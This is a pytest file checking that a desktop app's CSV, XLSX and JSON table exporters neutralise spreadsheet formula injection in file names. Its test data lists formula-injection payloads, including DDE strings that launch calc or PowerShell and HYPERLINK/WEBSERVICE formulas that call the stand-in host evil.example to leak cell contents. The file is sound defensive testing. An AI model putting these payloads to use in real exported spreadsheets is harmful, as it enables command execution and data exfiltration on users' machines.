"""Tables that come back as they went out, in which nothing is ever a formula."""

import csv
import io
import json
import re
import zipfile
from xml.etree import ElementTree

import pytest

from ncov_desktop.exchange import tables

COLUMNS = ("file", "score")
NAMES = [
    *(f"{first}{rest}" for first in "=+-@\t\r\n\0" for rest in ("", "1+1", "cmd|' /C calc'!A0")),
    '=HYPERLINK("http://evil.example","click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=cmd|'/C powershell'!A0",
    "+1-1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "\uff1d1+1",
    "\uff0b1",
    "\uff20SUM(A1)",
    "==1",
    "=\t1",
    '";=1+1;"',
    "plain.png",
    "İstanbul ﬁlm.png",
    'quote " and, comma',
    "two\nlines",
]
DANGEROUS = tuple("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")


def csv_of(names: list[str], *, bom: bool = False) -> bytes:
    stream = io.BytesIO()
    tables.write_csv(stream, COLUMNS, [(name, 0.5) for name in names], bom)
    return stream.getvalue()


def xlsx_of(names: list[str]) -> zipfile.ZipFile:
    stream = io.BytesIO()
    tables.write_xlsx(stream, COLUMNS, [(name, 0.5) for name in names], "Research use only")
    return zipfile.ZipFile(io.BytesIO(stream.getvalue()))


def test_there_are_forty_names() -> None:
    assert len(set(NAMES)) == 40


@pytest.mark.parametrize("name", NAMES)
def test_no_cell_of_csv_is_a_formula(name: str) -> None:
    (_, row) = csv.reader(io.StringIO(csv_of([name]).decode(), newline=""))
    cell, score = row
    assert score == "0.5"
    assert not cell.startswith(DANGEROUS)
    expected = name.replace("\0", "\ufffd")
    assert cell == (f"'{expected}" if name.startswith(DANGEROUS) else expected)


@pytest.mark.parametrize("name", NAMES)
def test_no_cell_of_xlsx_is_a_formula(name: str) -> None:
    book = xlsx_of([name])
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    found = ElementTree.fromstring(sheet)
    space = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    cell = found.find(".//x:c[@r='A2']", space)
    if name:
        assert cell is not None
        assert cell.get("t") == "inlineStr"
        words = "".join(part.text or "" for part in cell.iterfind(".//x:t", space))
        read = re.sub(r"_x([0-9A-F]{4})_", lambda code: chr(int(code[1], 16)), words)
        expected = name.replace("\0", "\ufffd")
        assert read.replace("\r\n", "\n") in (expected, expected.replace("\r", "\n"))


def test_byte_order_mark_is_there_only_when_asked_for() -> None:
    assert csv_of(["ä"], bom=True) == b"\xef\xbb\xbf" + csv_of(["ä"])


def test_numbers_stay_numbers_and_nothing_stays_nothing() -> None:
    rows = [("a", -0.25), ("b", None)]
    stream = io.BytesIO()
    tables.write_csv(stream, COLUMNS, rows, bom=False)
    assert stream.getvalue().decode().split() == ['"file","score"', '"a",-0.25', '"b",""']
    stream = io.BytesIO()
    tables.write_json_lines(stream, COLUMNS, rows)
    assert [json.loads(line) for line in stream.getvalue().splitlines()] == [
        {"file": "a", "score": -0.25},
        {"file": "b", "score": None},
    ]


def test_names_that_are_no_letters_are_written_by_their_numbers() -> None:
    name = b"film\xff.png".decode(errors="surrogateescape")
    assert b"film\\udcff.png" in csv_of([name])
    stream = io.BytesIO()
    tables.write_json(stream, COLUMNS, [(name, 1.0)], "notice")
    assert json.loads(stream.getvalue())["films"][0]["file"] == name
    assert b"<f>" not in xlsx_of([name]).read("xl/worksheets/sheet1.xml")


def test_json_is_one_document_even_without_films() -> None:
    stream = io.BytesIO()
    tables.write_json(stream, COLUMNS, [], "notice")
    assert json.loads(stream.getvalue()) == {"notice": "notice", "films": []}


def test_banner_is_at_the_head_of_each_printed_page() -> None:
    sheet = xlsx_of(["a"]).read("xl/worksheets/sheet1.xml").decode()
    assert "<oddHeader>&amp;CResearch use only</oddHeader>" in sheet
